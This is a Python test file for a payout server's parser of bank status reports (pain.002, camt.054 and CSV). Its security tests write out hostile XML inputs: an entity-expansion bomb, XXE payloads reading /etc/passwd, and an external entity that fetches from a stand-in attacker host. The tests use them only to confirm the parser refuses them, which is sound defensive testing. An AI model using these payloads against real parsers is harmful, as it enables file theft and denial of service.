"""Banks' files: what each format means, and that nothing that XML can do reaches us."""

import codecs

import hypothesis.strategies as st
import pytest
from hypothesis import given

from pool_protocol.errors import ErrorCode, PoolError
from pool_server.core.payouts.bank_report import BankReport, Verdict
from pool_server.rails.bank_reports import BankReports
from pool_server.rails.bank_xml import REPORT_BYTES_MAX, read_xml
from tests.support.bank import URN, Order, Payment, booking, notification, status_report

MESSAGE = "CP-0A1B2C3D-3"
PAYMENTS = tuple(
    Payment(
        block=f"{MESSAGE}-B1-3",
        reference=f"{MESSAGE}-{number}",
        amount=f"{number}.50",
        name="Ada",
        iban="DE89370400440532013000",
        town="Koeln",
    )
    for number in (1, 2, 3)
)
ORDER = Order(
    message=MESSAGE, count=3, control_cents=750, block_sums={}, execution_date="2026-11-26", payments=PAYMENTS
)
ONE, TWO, THREE = (payment.reference for payment in PAYMENTS)


def read(content: bytes) -> BankReport:
    return BankReports().read(content)


def refused(content: bytes) -> PoolError:
    with pytest.raises(PoolError) as refusal:
        read(content)
    assert refusal.value.code is ErrorCode.INVALID_ARGUMENT
    assert refusal.value.context == {"field": "file"}
    return refusal.value


@pytest.mark.parametrize("version", ["pain.002.001.03", "pain.002.001.10"])
def test_pain_002_says_what_became_of_single_payments(version: str) -> None:
    statuses = {ONE: ("RJCT", "AC04"), TWO: ("ACSC", ""), THREE: ("ACSP", "")}

    report = read(status_report(ORDER, statuses, version=version, group="PART"))

    assert (report.format, report.message_id) == (version, "BANK-1")
    assert [(line.reference, line.verdict, line.reason_code) for line in report.lines] == [
        (ONE, Verdict.REJECTED, "AC04"),
        (TWO, Verdict.SETTLED, ""),
        (THREE, Verdict.NOTED, ""),
    ]
    assert {line.message for line in report.lines} == {MESSAGE}
    assert (report.lines[0].amount_micros, report.lines[0].currency) == (1_500_000, "EUR")


def test_a_rejected_file_is_one_line_for_all_of_it() -> None:
    [line] = read(status_report(ORDER, {}, group="RJCT")).lines

    assert (line.verdict, line.message, line.reference, line.block) == (Verdict.REJECTED, MESSAGE, "", "")


def test_a_rejected_block_rejects_what_it_names_and_what_it_does_not() -> None:
    block = PAYMENTS[0].block
    report = read(status_report(ORDER, {ONE: ("", "")}, group="PART", blocks={block: ("RJCT", "DT01")}))

    first, whole = report.lines
    assert (first.reference, first.verdict, first.reason_code) == (ONE, Verdict.REJECTED, "DT01")
    assert (whole.block, whole.verdict, whole.reason_code) == (block, Verdict.REJECTED, "DT01")


def test_a_status_that_is_not_known_is_noted_and_keeps_nothing_else_out() -> None:
    odd, known = read(status_report(ORDER, {ONE: ("WHAT", ""), TWO: ("RJCT", "AC04")})).lines

    assert (odd.verdict, odd.reason_text) == (Verdict.NOTED, "'WHAT' is no status that this pool knows.")
    assert known.verdict is Verdict.REJECTED


def test_a_file_that_is_on_its_way_is_a_note() -> None:
    [line] = read(status_report(ORDER, {}, group="ACCP")).lines

    assert line.verdict is Verdict.NOTED


@pytest.mark.parametrize(
    "content",
    [
        status_report(ORDER, {}),
        status_report(ORDER, {"": ("RJCT", "")}),
        status_report(ORDER, {ONE: ("RJCT", "")}).replace(b"CstmrPmtStsRpt", b"SomethingElse"),
        status_report(ORDER, {ONE: ("RJCT", "")}).replace(f">{MESSAGE}<".encode(), b"><"),
        status_report(ORDER, {ONE: ("RJCT", "")}, version="pain.002.001.99"),
        status_report(ORDER, {ONE: ("RJCT", "")}).replace(b"1.50", b"1.505"),
        status_report(ORDER, {ONE: ("RJCT", "")}).replace(b"1.50", b"-1.50"),
        notification([booking(PAYMENTS, direction="WHAT")]),
        notification([]).replace(b"BkToCstmrDbtCdtNtfctn", b"BkToCstmrStmt"),
    ],
)
def test_a_report_that_is_not_sound_is_refused(content: bytes) -> None:
    refused(content)


@pytest.mark.parametrize("version", ["camt.054.001.02", "camt.054.001.08"])
def test_camt_054_tells_payments_from_returns(version: str) -> None:
    entries = [
        booking(PAYMENTS[:2], version=version),
        booking(PAYMENTS[2:], direction="CRDT", code="AC06", version=version),
        booking(PAYMENTS[:1], booked="PDNG", version=version),
    ]

    report = read(notification(entries, version=version))

    assert [(line.reference, line.verdict, line.amount_micros) for line in report.lines] == [
        (ONE, Verdict.SETTLED, 1_500_000),
        (TWO, Verdict.SETTLED, 2_500_000),
        (THREE, Verdict.RETURNED, 3_500_000),
        (ONE, Verdict.NOTED, 1_500_000),
    ]
    assert report.lines[2].reason_code == "AC06"


def test_a_credit_that_only_quotes_our_reference_is_no_return() -> None:
    [line] = read(notification([booking(PAYMENTS[:1], direction="CRDT")])).lines

    assert (line.verdict, line.status) == (Verdict.NOTED, "BOOK CRDT, no return")


def test_a_reversed_debit_is_a_return() -> None:
    entry = booking(PAYMENTS[:1], direction="CRDT").replace("<Sts>", "<RvslInd>true</RvslInd><Sts>")
    [line] = read(notification([entry])).lines

    assert line.verdict is Verdict.RETURNED


def test_a_block_that_is_booked_without_its_payments_is_one_line() -> None:
    [line] = read(notification([booking(PAYMENTS, with_details=False)])).lines

    assert (line.block, line.verdict, line.amount_micros, line.currency) == (
        PAYMENTS[0].block,
        Verdict.SETTLED,
        7_500_000,
        "EUR",
    )


def test_bookings_of_others_are_no_news_of_payouts() -> None:
    entry = booking(PAYMENTS[:1], direction="CRDT").replace(ONE, "NOTPROVIDED")

    assert read(notification([entry])).lines == ()


HEADER = "reference,status,amount,currency,reason\n"


def test_a_table_serves_banks_that_report_in_no_standard() -> None:
    lines = (
        f"{ONE},settled,1.50,EUR,",
        f"{TWO},Rejected,2.5,EUR,AC04",
        f"{THREE},returned,3.50,EUR,they moved",
    )
    table = HEADER + "\n".join(lines)

    for content in (table.encode(), codecs.BOM_UTF8 + table.encode()):
        report = read(content)
        assert report.format == "csv"
        assert [(line.verdict, line.reason_code, line.reason_text) for line in report.lines] == [
            (Verdict.SETTLED, "", ""),
            (Verdict.REJECTED, "AC04", ""),
            (Verdict.RETURNED, "", "they moved"),
        ]


@pytest.mark.parametrize(
    "line",
    [
        "",
        f"{ONE},paid,1.50,EUR,",
        ",settled,1.50,EUR,",
        f"{ONE},settled,,EUR,",
        f"{ONE},settled,1.50,EUR,a,b",
        f"{ONE},settled,1.50,EUR,{'x' * 141}",
        '"open',
    ],
)
def test_a_table_with_a_wrong_line_is_refused_as_a_whole(line: str) -> None:
    refused((HEADER + line).encode())


def test_a_table_in_another_encoding_is_refused() -> None:
    refused(HEADER.encode() + b"\xff\xfe,settled,1.50,EUR,")


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize(
    "content",
    [
        BOMB.encode(),
        BOMB.encode("utf-16"),
        b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><x/>',
        b"<x>&e;</x>",
    ],
)
def test_document_types_and_entities_are_refused_in_every_encoding(content: bytes) -> None:
    refused(content)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"not xml",
        b"<x>",
        b'<?xml version="1.0" encoding="x-unknown"?><x/>',
        b"<x xmlns='urn:iso:std:iso:20022:tech:xsd:pain.002.001.10'/>",
        b"<Document xmlns='http://evil.example/pain.002.001.10'/>",
        b"<Document xmlns='urn:iso:std:iso:20022:tech:xsd:pain.001.001.09'/>",
        b"<a>" * 41 + b"</a>" * 41,
        b" " * (REPORT_BYTES_MAX + 1),
    ],
)
def test_what_is_no_report_is_refused(content: bytes) -> None:
    refused(content)


@given(st.binary(max_size=60))
def test_bytes_at_random_are_refused_and_nothing_else_happens(content: bytes) -> None:
    refused(content)


@given(st.text(max_size=20), st.binary(max_size=8))
def test_a_damaged_report_is_read_or_refused(text: str, noise: bytes) -> None:
    content = status_report(ORDER, {ONE: ("RJCT", "AC04")})
    damaged = content.replace(b"AC04", text.encode("utf-8", "replace")).replace(b"BANK-1", noise)

    try:
        lines, code = read(damaged).lines, None
    except PoolError as error:
        lines, code = (), error.code
    assert code in (None, ErrorCode.INVALID_ARGUMENT)
    assert all(line.reason_code.isprintable() for line in lines)


def test_a_tree_drops_prefixes_and_keeps_attributes() -> None:
    namespace, root = read_xml(f'<n:A xmlns:n="{URN}x" b="1"><n:C> d </n:C><n:C/></n:A>'.encode())

    assert (namespace, root.name, root.attributes) == (f"{URN}x", "A", {"b": "1"})
    assert root.value("Missing", "C") == "d"
    assert len(root.all("C")) == 2
    assert root.first("C/D") is None
